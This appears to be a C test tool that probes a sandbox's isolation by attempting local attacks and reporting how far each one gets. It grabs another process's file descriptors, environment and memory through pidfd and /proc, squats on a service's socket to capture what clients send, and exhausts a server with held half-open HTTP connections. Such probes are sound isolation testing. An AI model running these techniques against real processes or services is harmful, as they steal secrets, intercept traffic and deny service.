/* What an attacker does that a shell cannot. Each way ends with 0 if it had success, and says how far it got. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* Takes descriptors of a process, and reads its environment and its memory. */
static int steal(const char *process) {
    int pid = atoi(process), taken = 0;
    char path[64], byte;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; pidfd >= 0 && fd < 64; fd++)
        taken += syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0;
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int environ_is_open = open(path, O_RDONLY) >= 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory_is_open = open(path, O_RDWR) >= 0;
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    int list_is_open = open(path, O_RDONLY | O_DIRECTORY) >= 0;
    printf("pidfd %d, descriptors %d, environ %d, memory %d, fd %d\n", pidfd >= 0, taken, environ_is_open,
           memory_is_open, list_is_open);
    return !(taken || environ_is_open || memory_is_open || list_is_open);
}

/* Connects to a socket by its path. */
static int reach(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    int failed = connect(fd, (struct sockaddr *)&address, sizeof address);
    printf("connect: %s\n", failed ? strerror(errno) : "reached");
    return failed != 0;
}

static struct sockaddr_in local(const char *port) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port))};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return address;
}

/* Listens in place of another program, and prints whatever comes. A path is that of a socket. */
static int listen_at(const char *place) {
    struct sockaddr_in port = local(place);
    struct sockaddr_un path = {.sun_family = AF_UNIX};
    strncpy(path.sun_path, place, sizeof path.sun_path - 1);
    int is_path = place[0] == '/', on = 1, fd = socket(is_path ? AF_UNIX : AF_INET, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    int failed = is_path ? bind(fd, (struct sockaddr *)&path, sizeof path)
                         : bind(fd, (struct sockaddr *)&port, sizeof port);
    if (failed || listen(fd, 64)) {
        perror("listen");
        return 1;
    }
    if (is_path)
        chmod(place, 0777);
    fprintf(stderr, "listening\n");
    for (;;) {
        char bytes[65536];
        int stream = accept(fd, NULL, NULL);
        struct timeval patience = {.tv_sec = 2};
        setsockopt(stream, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
        ssize_t count = read(stream, bytes, sizeof bytes);
        printf("connection of %zd bytes: %.*s\n", count, count > 0 ? (int)count : 0, bytes);
        fflush(stdout);
        close(stream);
    }
}

/* Opens so many connections, says half a request on each second one, and holds them. */
static int hold(const char *port, const char *wanted) {
    struct sockaddr_in address = local(port);
    int count = atoi(wanted), open = 0;
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    signal(SIGPIPE, SIG_IGN);
    for (int at = 0; at < count; at++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0)
            open++;
        if (at % 2 && write(fd, "POST /jobs HTTP/1.1\r\nhost: x\r\nx-slow:", 37) < 0)
            continue;
    }
    fprintf(stderr, "holding %d connections\n", open);
    pause();
    return 0;
}

int main(int count, char **words) {
    if (count == 3 && !strcmp(words[1], "steal"))
        return steal(words[2]);
    if (count == 3 && !strcmp(words[1], "reach"))
        return reach(words[2]);
    if (count == 3 && !strcmp(words[1], "listen"))
        return listen_at(words[2]);
    if (count == 4 && !strcmp(words[1], "hold"))
        return hold(words[2], words[3]);
    fprintf(stderr, "usage: attack steal PID | reach PATH | listen PORT_OR_PATH | hold PORT COUNT\n");
    return 2;
}
